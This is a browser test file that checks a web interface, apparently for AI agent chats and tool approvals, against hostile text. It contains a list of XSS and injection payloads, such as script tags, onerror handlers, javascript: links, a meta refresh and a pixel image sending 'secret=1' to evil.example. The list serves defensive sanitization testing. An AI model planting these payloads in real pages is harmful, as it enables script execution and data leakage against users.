import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { chromiumFile, launchChromium, needsChromium, visitSignedIn } from './browser.ts';
import { startGuildhall, type GuildhallDouble } from './guildhall-double.ts';
import { agent } from './team.ts';

/** What people have tried on pages that show the words of others. */
const corpus = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert%281%29)',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click]( java\nscript:alert(1))',
  '![x](https://evil.example/pixel.png?secret=1)',
  '<https://evil.example/"onmouseover="alert(1)>',
  'https://evil.example/"onmouseover="alert(1)',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>',
  '`<img src=x onerror=alert(1)>`',
  '```html"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
  '| <b onclick=alert(1)>a</b> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](vbscript:alert(1)) |',
  '<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><button>Approve once</button></form>',
  '</textarea></script></title><script>alert(1)</script>',
  '\u202Egnp.exe\u2066\u200B\u{E0041}\u0000\u001B[31m',
  '__proto__',
];
const everything = corpus.join('\n\n');

describe.skipIf(chromiumFile === undefined)(`hostile text${needsChromium}`, () => {
  let browser: Browser;
  let guildhall: GuildhallDouble;
  beforeAll(async () => {
    browser = await launchChromium();
  });
  afterAll(() => browser.close());
  afterEach(() => guildhall.stop());
  beforeEach(async () => {
    guildhall = await startGuildhall([
      agent('plain', { default: true }),
      agent(corpus[1] ?? '', { description: everything, model: everything, modelFrom: everything, rehearsal: true }),
      ...corpus.slice(0, 3).map((text) => agent(text, { description: text, model: text })),
    ]);
  });

  test('in every field stays text: nothing runs, nothing loads, no rule of the policy is even touched', async () => {
    guildhall.route.view = { agent: 'plain', tier: 7, rule: everything, losers: [{ agent: everything, tier: 7, rule: everything, reason: everything }] };
    const talk = guildhall.openTalk('plain', everything);
    for (const text of corpus) guildhall.openTalk('plain', text, { key: `agent:plain:telegram:dm:chat=${encodeURIComponent(text)}`, platform: text });
    const toolCalls = corpus.map((text, index) => ({ callId: `${text}${index}`, tool: text, args: { [text]: text, command: text } }));
    guildhall.record(talk, everything, { kind: 'message', text: everything, from: everything });
    guildhall.record(talk, everything, { kind: 'model-step', text: everything, toolCalls, model: everything, rehearsal: true });
    for (const { callId, tool, args } of toolCalls) {
      guildhall.record(talk, everything, { kind: 'tool-started', callId, tool, args, rule: everything });
      guildhall.record(talk, everything, { kind: 'tool-result', callId, tool, outcome: 'refused', text: everything, rule: everything });
    }
    guildhall.record(talk, 'second', { kind: 'note', code: everything, text: everything });
    guildhall.record(talk, 'second', { kind: 'note', code: 'partial', text: everything });
    guildhall.record(talk, 'second', { kind: 'compaction', text: everything });
    for (const text of corpus) guildhall.record(talk, `answer ${text}`, { kind: 'answer', text, model: text, rehearsal: true });
    guildhall.ask(talk, 'second', {
      id: everything,
      agent: everything,
      tool: everything,
      args: { [everything]: everything },
      digest: everything,
      reason: everything,
    });
    guildhall.ask(talk, 'second', { id: 'answered', status: 'denied', tool: everything, args: {}, answeredBy: everything, askedAt: Date.now() - 1000 });

    const { page, incidents } = await visitSignedIn(browser, guildhall);
    await page.locator('.approval').waitFor();
    await page.locator('.agent-text').nth(corpus.length).waitFor();
    for (const row of await page.locator('.tool summary').all()) await row.click();
    await expect.poll(() => page.locator('.tool .output').count()).toBe(corpus.length);
    await page.keyboard.press('Control+k');
    await page.locator('#switcher').getByRole('option').nth(4).waitFor();
    await page.keyboard.press('Escape');
    await page.getByText('1 other rule lost').click();

    expect(incidents).toEqual([]);
    expect(await page.locator('#chat :is(script, iframe, style, link, form form, object, embed, svg, meta)').count()).toBe(0);
    expect(await page.locator('#chat img').count()).toBe(1);
    expect(
      await page.evaluate(`[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()).filter((n) => /^(on|srcdoc|action)/.test(n))`),
    ).toEqual([]);
    expect(
      await page.evaluate(`[...document.querySelectorAll('#chat a[href]')].map((a) => new URL(a.href).protocol).filter((p) => !/^https?:$/.test(p))`),
    ).toEqual([]);
    expect(await page.locator('.agent-text').first().textContent()).toContain('<script>alert(1)</script>');
    await page
      .getByRole('button', { name: corpus[1] ?? '' })
      .first()
      .click();
    await page.getByRole('heading', { name: `This is ${corpus[1]}` }).waitFor();
    expect(incidents).toEqual([]);
  });

  test('a link shows where it leads, is opened after a question only, and tells the other side nothing', async () => {
    const talk = guildhall.openTalk('plain', 'Links');
    guildhall.record(talk, 't', {
      kind: 'answer',
      text: 'See [https://bank.example](https://evil.example/?q=1) and https://good.example/page. Not [this](https://bank.example@evil.example).',
      model: 'm',
    });
    const { page, incidents } = await visitSignedIn(browser, guildhall);
    const first = page.locator('.agent-text a').first();
    await first.waitFor();
    expect(await page.locator('.agent-text a').count()).toBe(2);
    expect(await first.textContent()).toBe('https://bank.example evil.example');
    expect([await first.getAttribute('rel'), await first.getAttribute('target')]).toEqual(['noopener noreferrer', '_blank']);
    await first.click();
    const dialog = page.getByRole('dialog', { name: 'Open this address?' });
    expect(await dialog.locator('strong').textContent()).toBe('evil.example');
    expect(await dialog.locator('pre').textContent()).toBe('https://evil.example/?q=1');
    await dialog.getByRole('button', { name: 'Stay here' }).click();
    await dialog.waitFor({ state: 'hidden' });
    expect(page.context().pages()).toHaveLength(1);
    expect(incidents).toEqual([]);
    await page.context().route('https://evil.example/**', (route) => route.fulfill({ body: 'reached' }));
    await first.click();
    const [opened] = await Promise.all([page.context().waitForEvent('page'), dialog.getByRole('button', { name: 'Open in a new tab' }).click()]);
    await opened.waitForURL('https://evil.example/?q=1');
    expect(await opened.evaluate('[window.opener, document.referrer]')).toEqual([null, '']);
  });

  test('an image of somebody else is never fetched; it is a link', async () => {
    const talk = guildhall.openTalk('plain', 'Pictures');
    guildhall.record(talk, 't', { kind: 'answer', text: '![a chart](https://evil.example/pixel.png)', model: 'm' });
    const { page, incidents } = await visitSignedIn(browser, guildhall);
    await page.getByRole('link', { name: 'image: a chart evil.example' }).waitFor();
    expect(await page.locator('.agent-text img').count()).toBe(0);
    expect(incidents).toEqual([]);
  });
});
